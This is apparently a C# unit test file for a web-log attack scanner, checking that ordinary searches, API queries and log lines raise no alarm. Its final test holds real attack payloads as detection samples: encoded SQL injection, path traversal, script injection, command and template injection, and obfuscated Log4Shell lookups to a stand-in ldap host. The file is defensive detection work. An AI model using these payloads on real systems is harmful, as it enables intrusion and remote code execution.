using System.Text;
using OpsModule.Engine.Areas.Attacks;
using OpsModule.Engine.Areas.Attacks.Rules;

namespace OpsModule.Engine.Tests.Attacks;

/// <summary>What people search for, what programs ask each other and what applications log is no attack, however odd it looks.</summary>
public sealed class OrdinaryTextTests
{
    [Theory]
    [InlineData("rock 'n' roll")]
    [InlineData("o'brien and o'neil")]
    [InlineData("men's and women's shoes")]
    [InlineData("\"black or white\" t-shirt")]
    [InlineData("6'2\" or taller")]
    [InlineData("how to select from a list in excel")]
    [InlineData("\"black\" or \"white\"")]
    [InlineData("'men' and 'women'")]
    [InlineData("\"C++\" OR \"C#\"")]
    [InlineData("\"SWEATER DRESS\" AND \"CHRISTMAS\"")]
    [InlineData("feature \"clap\" and 1 more")]
    [InlineData("\"LIKE\" stamp")]
    [InlineData("\"IS\" stamp")]
    [InlineData("difference between '==' and '==='")]
    [InlineData("{\"age\":{\"$gt\":18}}")]
    [InlineData("select the best from our menu")]
    [InlineData("<div>")]
    [InlineData("<a href=\"/privacy-policy/\">")]
    [InlineData("line_format \"{{.msg}}\"")]
    [InlineData("{{campaign.name}}")]
    [InlineData("insert into word a picture")]
    [InlineData("where 2 eat")]
    [InlineData("choosing 1 or 2")]
    [InlineData("union square new york")]
    [InlineData("tail light | head light")]
    [InlineData("ps4; ps5 & xbox")]
    [InlineData("top 10 & more")]
    [InlineData("which cat is best?")]
    [InlineData("javascript alert box")]
    [InlineData("hdmi 2.1 > dvi")]
    [InlineData("<3 love songs")]
    [InlineData("50% off & 1/2 or 3/4 inch")]
    [InlineData("c# and .net")]
    [InlineData("title:\"red shoes\" AND brand:acme")]
    [InlineData("status:[400 TO 499] AND NOT extension:php")]
    [InlineData("host.name:\"a\" and (http.response.status_code >= 500 or error.code : *)")]
    [InlineData("name|date|id")]
    [InlineData("price:asc;name:desc")]
    [InlineData("日本語 検索")]
    [InlineData("naïve café à la carte")]
    public async Task A_search_is_no_attack(string text) => Assert.Empty(await FindAsync(Request("/search?q=" + Uri.EscapeDataString(text)), Request("/search?q=" + System.Net.WebUtility.UrlEncode(text))));

    [Theory]
    [InlineData("/odata/Products?$filter=Name%20eq%20%27Milk%27%20and%20Price%20lt%202.55")]
    [InlineData("/odata/Products?$filter=contains(Name,%27red%27)%20and%20startswith(Code,%27A%27)")]
    [InlineData("/odata/Products?$filter=Tags/any(t:%20t%20eq%20%27a%27)%20and%20length(Name)%20gt%205")]
    [InlineData("/sap/opu/odata/People(%27o%27%27neil%27)/Trips")]
    [InlineData("/rest/api/2/search?jql=project+%3D+%22OPS%22+AND+status+%3D+%22Done%22+ORDER+BY+created+DESC")]
    [InlineData("/rest/api/2/search?jql=created+%3E%3D+-7d+and+labels+%3D+%22x+y%22+or+reporter+%3D+admin")]
    [InlineData("/wfs?cql_filter=name+LIKE+%27A%25%27+AND+pop+%3E+1000")]
    [InlineData("/server/rest/services/query?where=1%3D1&outFields=*&f=json")]
    [InlineData("/graphql?query=%7Buser(id:4)%7Bname,email%7D%7D")]
    [InlineData("/graphql?query=mutation%20%7B%20like(input:%20%7Bid:%20%22a%22%7D)%20%7B%20count%20%7D%20%7D")]
    [InlineData("/api/v1/query?query=sum%20by%20(pod)%20(rate(cpu%7Bpod%3D~%22a.*%7Cb.*%22%7D%5B5m%5D))")]
    [InlineData("/idx/_search?source=%7B%22query%22%3A%7B%22range%22%3A%7B%22age%22%3A%7B%22gte%22%3A10%7D%7D%7D%7D")]
    [InlineData("/cb?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")]
    [InlineData("/?redirect_uri=https%3A%2F%2Fapp.example.net%2Fcb%3Fa%3D1%26b%3D2&scope=openid%20profile")]
    [InlineData("/?utm_source=newsletter&utm_content=cta%20%7C%20top")]
    [InlineData("/log/web?00001|1920x921|1|{%22type%22:%22up%22}")]
    [InlineData("/system/resource/js/ajax.js")]
    [InlineData("/php/show.php?id=7")]
    [InlineData("/api/v1/hosts/7/login_history")]
    [InlineData("/wiki/SELECT_(SQL)")]
    [InlineData("/compare/v1.0...v1.1")]
    [InlineData("/data:;base64,=")]
    [InlineData("/static/js/main.4f3a.js.map")]
    public async Task A_request_of_a_program_is_no_attack(string target) => Assert.Empty(await FindAsync(Request(target), Request("/", "https://www.example.net" + target)));

    [Theory]
    [InlineData("logger=settings t=2025-11-25T10:11:12Z level=info msg=\"Path Data\" path=/var/lib/grafana")]
    [InlineData("logger=settings t=2025-11-25T10:11:12Z level=info msg=\"Path Provisioning\" path=/etc/grafana/provisioning")]
    [InlineData("{\"msg\":\"file not found\",\"path\":\"/etc/ssl/certs/ca.pem\"}")]
    [InlineData("Nov 25 10:17:01 host CRON[77]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)")]
    [InlineData("Nov 25 10:17:01 host sudo: ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/bin/bash")]
    [InlineData("Nov 25 10:17:01 host useradd[7]: new user: name=x, UID=1001, GID=1001, home=/home/x, shell=/bin/bash")]
    [InlineData("type=USER_LOGIN msg=audit(1764061872.123:45): pid=1 uid=0 auid=1000 ses=1 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" res=success'")]
    [InlineData("[Sun Dec 04 04:47:44 2005] [notice] workerEnv.init() ok /etc/httpd/conf/workers2.properties")]
    [InlineData("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>4624</EventID></System><EventData><Data Name='TargetUserName'>bob</Data></EventData></Event>")]
    [InlineData("org.postgresql.util.PSQLException: ERROR: syntax error at or near \"where\" Position: 42")]
    [InlineData("  User Load (0.3ms)  SELECT \"users\".* FROM \"users\" WHERE \"users\".\"id\" = $1 AND \"users\".\"name\" = 'x' ORDER BY 1 LIMIT 2")]
    [InlineData("[2026-11-21 03:16:00] local.ERROR: SQLSTATE[42S02]: not found (SQL: select * from `sessions` where `id` = 7 limit 1)")]
    [InlineData("2026-11-21 03:16:00 DEBUG jdbc.sqlonly - select * from a where b = 'c' or d = 'e'")]
    [InlineData("2026-11-21 03:16:00 INFO doc SELECT city FROM customers UNION SELECT city FROM suppliers ORDER BY city")]
    [InlineData("2026-11-21 03:16:00 INFO doc SELECT * FROM orders WHERE id IN (SELECT id FROM old WHERE price BETWEEN 'a' AND 'b')")]
    [InlineData("level=info msg=\"executing query\" query=\"SELECT id, name FROM users WHERE tenant = 'a' AND status = 'open' ORDER BY id\"")]
    [InlineData("{\"level\":\"info\",\"msg\":\"comment saved\",\"body\":\"I think 1 or 2 of them don't work; can you check?\"}")]
    [InlineData("{\"level\":\"info\",\"msg\":\"It's great -- and it's cheap. Isn't it?\"}")]
    [InlineData("2026-11-21 03:16:00 INFO RequestMappingHandlerMapping : Mapped \"{[/shop],methods=[GET]}\" onto public java.lang.String shop.controller.Search.find(java.lang.String)")]
    [InlineData("\tat java.base/java.lang.ProcessBuilder.start(ProcessBuilder.java:1143)")]
    [InlineData("logback: no applicable action for [appender], using ${LOG_DIR:-/var/log}")]
    [InlineData("ActiveMQ: jndi lookup of java:comp/env/jms/ConnectionFactory failed")]
    public async Task A_line_of_an_application_is_no_attack(string line) => Assert.Empty(await FindAsync(line));

    [Theory] // such a line may well quote an attack; nobody is called for it
    [InlineData("npm ERR! shop@1.0.0 build: `webpack --mode production && node scripts/post.js`")]
    [InlineData("{\"level\":\"error\",\"msg\":\"exec failed\",\"cmd\":\"/bin/sh -c 'pg_dump shop | gzip > /backup/shop.sql.gz'\"}")]
    [InlineData("CRON[1234]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)")]
    [InlineData("webpack: Module not found: Error: Can't resolve '../../components/Button' in '/app/src/pages'")]
    [InlineData("</pre><script>Sfdump(\"sf-dump-1251018464\", {\"maxDepth\":3})</script>")]
    [InlineData("{\"level\":\"info\",\"query\":\"from(bucket:\\\"a\\\") |> filter(fn: (r) => r.x == \\\"cpu\\\" and r.host == \\\"a\\\")\"}")]
    [InlineData("git: commit 1a2b3c \"Don't use eval(); fix onerror= handling in <img> tags\"")]
    public async Task A_line_that_looks_like_one_is_not_grave(string line) => Assert.DoesNotContain(await FindAsync(line), m => m.Severity >= AttackSeverity.High);

    [Theory] // the other side of what lets the lines above pass
    [InlineData("/item?id=x%27+and+email+like+%27a%25", AttackCategory.SqlInjection)]
    [InlineData("/item?id=1+or+1--", AttackCategory.SqlInjection)]
    [InlineData("/item?id=1+union+select+city+from+customers+union+select+1", AttackCategory.SqlInjection)]
    [InlineData("/item?id=%2527%252Bor%252B1%253D1%252Band%252B2%253D2", AttackCategory.SqlInjection)]
    [InlineData("/item?id=1%a0union%a0select%a01", AttackCategory.SqlInjection)]
    [InlineData("/view?page=c%3A%2Fprogram%20files%2Fx.ini", AttackCategory.PathTraversal)]
    [InlineData("/search?q=%26lt%3Bscript%3E", AttackCategory.CrossSiteScripting)]
    [InlineData("/search?q=%3C;SCRIPT%20SRC=x%3E;", AttackCategory.CrossSiteScripting)]
    [InlineData("/search?q=[][(![]%2B[])[%2B[]]%2B(![]%2B[])[!%2B[]%2B!%2B[]]]", AttackCategory.CrossSiteScripting)]
    [InlineData("/ping?h=127.0.0.1+%26+ping+-c+3+x.example", AttackCategory.CommandInjection)]
    [InlineData("/hello?n=%24%7Bself.template.module.cache.util.os.system(%22id%22)%7D", AttackCategory.CommandInjection)]
    [InlineData("/?x=%24%7Bjnd%24%7Bupper:%C4%B1%7D:ldap://x.example/a%7D", AttackCategory.Log4Shell)]
    [InlineData("/?x=$%7Bjn$%7Bbase64:ZGk=%7D:ldap://x.example%7D", AttackCategory.Log4Shell)]
    public async Task An_attack_is_one_in_a_parameter_and_in_a_referrer(string target, AttackCategory category)
    {
        Assert.Contains(await FindAsync(Request(target)), m => m.Category == category);
        Assert.Contains(await FindAsync(Request("/", "https://www.example.net" + target)), m => m.Category == category);
    }

    // One for all: its expressions are made once.
    private static readonly AttackScanner Scanner = new(new AttackQuery { Rules = RuleCatalog.Own, MinConfidence = AttackConfidence.Medium }, TimeProvider.System);

    private static string Request(string target, string referrer = "-") =>
        $"203.0.113.9 - - [21/Nov/2026:03:16:00 +0000] \"GET {target} HTTP/1.1\" 200 512 \"{referrer}\" \"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101\"";

    private static async Task<IReadOnlyList<AttackMatch>> FindAsync(params string[] lines)
    {
        var found = new List<AttackMatch>();
        await foreach (IReadOnlyList<AttackMatch> batch in Scanner.ScanStreamAsync(new MemoryStream(Encoding.UTF8.GetBytes(string.Join('\n', lines))), "a.log", default)) found.AddRange(batch);
        return found;
    }
}
